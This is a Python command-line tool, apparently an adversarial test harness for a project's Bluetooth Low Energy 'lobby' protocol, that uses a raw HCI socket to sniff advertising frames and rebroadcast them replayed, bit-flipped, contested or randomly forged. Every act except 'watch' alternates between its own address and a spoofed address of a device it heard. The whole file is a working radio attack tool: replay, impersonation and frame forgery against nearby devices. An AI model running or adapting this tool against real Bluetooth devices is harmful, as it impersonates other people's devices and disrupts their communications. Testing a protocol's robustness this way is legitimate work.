#!/usr/bin/env python3
"""Somebody with a Bluetooth adapter who wants to spoil the lobby by radio: listens to frames, and advertises them again,
changed, mixed and made up, in the names of those who were heard. Python's own library and a raw HCI socket.

usage: airattack.py --adapter N [--seed N] ACT[:SECONDS]...

Acts, one after the other, 10 s unless told otherwise:
  watch     counts who advertises what: beacons, frames, others
  replay    frames that were heard, again
  flip      frames that were heard, with one bit another one
  contest   symbols of the messages that are being said, with payloads of its own, under their sender's address
  forge     frames of any kind, message and payload; other companies and lengths

Every act but `watch` speaks under an address of its own and, every other second, under one that it has heard. Prints one
JSON object for each act. `docs/lobby.md` draws the bytes.
"""
import argparse
import collections
import json
import random
import select
import socket
import struct
import time

COMPANY = b"\xff\xff"
KEPT = 512
# Of Core 5.3 Vol 4 Part E: LE Set Random Address, Advertising Parameters, Data, Enable, Scan Parameters, Scan Enable.
ADDRESS, PARAMETERS, DATA, ADVERTISE, SCAN_PARAMETERS, SCAN = 0x2005, 0x2006, 0x2008, 0x200A, 0x200B, 0x200C
EVERY = 0.02


class Adapter:
    """A controller that the kernel has powered."""

    def __init__(self, number):
        self.socket = socket.socket(socket.AF_BLUETOOTH, socket.SOCK_RAW, socket.BTPROTO_HCI)
        # SOL_HCI, HCI_FILTER: all packets and events.
        self.socket.setsockopt(0, 2, struct.pack("<LLLHxx", 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
        self.socket.bind((number,))
        self.heard = collections.deque(maxlen=KEPT)
        self.counts = collections.Counter()

    def command(self, opcode, parameters=b""):
        self.socket.send(struct.pack("<BHB", 1, opcode, len(parameters)) + parameters)
        self.listen(0.002)

    def listen(self, seconds):
        """Takes in what comes meanwhile."""
        end = time.monotonic() + seconds
        while True:
            left = end - time.monotonic()
            if not select.select([self.socket], [], [], max(0, left))[0]:
                return
            self.take(self.socket.recv(1024))

    def take(self, packet):
        # Event 0x3E, LE Meta; subevent 2, Advertising Report, of one report.
        if len(packet) < 15 or packet[0] != 4 or packet[1] != 0x3E or packet[3] != 2:
            return
        address = packet[7:13]
        data = packet[14:14 + packet[13]]
        if len(data) == 31 and data[1] == 0xFF and data[2:4] == COMPANY:
            kind = "frames"
            self.heard.append((address, data))
        elif b"\xff\x4c\x00\x02\x15" in data:
            kind = "beacons"
        else:
            kind = "others"
        self.counts[kind, address.hex()] += 1

    def scan(self, on):
        if on:
            self.command(SCAN_PARAMETERS, struct.pack("<BHHBB", 0, 96, 96, 0, 0))
        self.command(SCAN, bytes([on, 0]))

    def advertise(self, address):
        """Under this address, from now on: it cannot be changed while anything is on."""
        self.command(ADVERTISE, b"\0")
        self.command(SCAN, b"\0\0")
        self.command(ADDRESS, address)
        self.command(PARAMETERS, struct.pack("<HHBBB6sBB", 32, 32, 3, 1, 0, b"\0" * 6, 7, 0))
        self.command(DATA, self.padded(b"\x02\x01\x06"))
        self.command(ADVERTISE, b"\1")
        self.scan(True)

    @staticmethod
    def padded(data):
        return bytes([len(data)]) + data + b"\0" * (31 - len(data))


class Attack:
    def __init__(self, adapter, chance):
        self.adapter, self.chance = adapter, chance

    def any(self):
        return self.chance.choice(list(self.adapter.heard)) if self.adapter.heard else None

    def replay(self):
        heard = self.any()
        return heard and heard[1]

    def flip(self):
        heard = self.any()
        if not heard:
            return None
        data = bytearray(heard[1])
        data[self.chance.randrange(4, 31)] ^= 1 << self.chance.randrange(8)
        return bytes(data)

    def contest(self):
        if not self.adapter.heard:
            return None
        header = bytearray(self.adapter.heard[-1][1][:7])
        # Another symbol of the same message: the six bits from the ninth on.
        symbol = self.chance.randrange(64)
        header[5] = header[5] & 0x81 | symbol << 1 & 0x7E
        return bytes(header) + self.chance.randbytes(24)

    def forge(self):
        if self.chance.random() < 0.2:
            data = self.chance.randbytes(self.chance.randrange(28))
            return bytes([len(data) + 1]) + b"\xff" + data
        return b"\x1e\xff" + COMPANY + self.chance.randbytes(27)

    def run(self, act, seconds):
        end = time.monotonic() + seconds
        said, named = 0, 0
        while time.monotonic() < end:
            # A second under its own address, and one under somebody's.
            spoofed = self.any()
            named += 1
            own = bytes([1, 2, 3, 4, 5, 0xC9])
            self.adapter.advertise(spoofed[0] if spoofed and named % 2 == 0 else own)
            turn = min(end, time.monotonic() + 1)
            while time.monotonic() < turn:
                data = getattr(self, act)()
                if data:
                    self.adapter.command(DATA, self.adapter.padded(data[:31]))
                    said += 1
                self.adapter.listen(EVERY)
        self.adapter.command(ADVERTISE, b"\0")
        return said


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--adapter", type=int, required=True)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("acts", nargs="+", metavar="ACT[:SECONDS]")
    options = parser.parse_args()
    adapter = Adapter(options.adapter)
    attack = Attack(adapter, random.Random(options.seed))
    adapter.scan(True)
    for word in options.acts:
        act, _, seconds = word.partition(":")
        seconds = float(seconds or 10)
        if act not in ("watch", "replay", "flip", "contest", "forge"):
            parser.error(f"{act} is none of its acts")
        adapter.counts.clear()
        said = 0
        if act == "watch":
            adapter.listen(seconds)
        else:
            said = attack.run(act, seconds)
        by_address = collections.defaultdict(dict)
        for (kind, address), count in sorted(adapter.counts.items()):
            by_address[address][kind] = count
        print(json.dumps({"act": act, "said": said, "heard": by_address}), flush=True)
    adapter.scan(False)


if __name__ == "__main__":
    main()
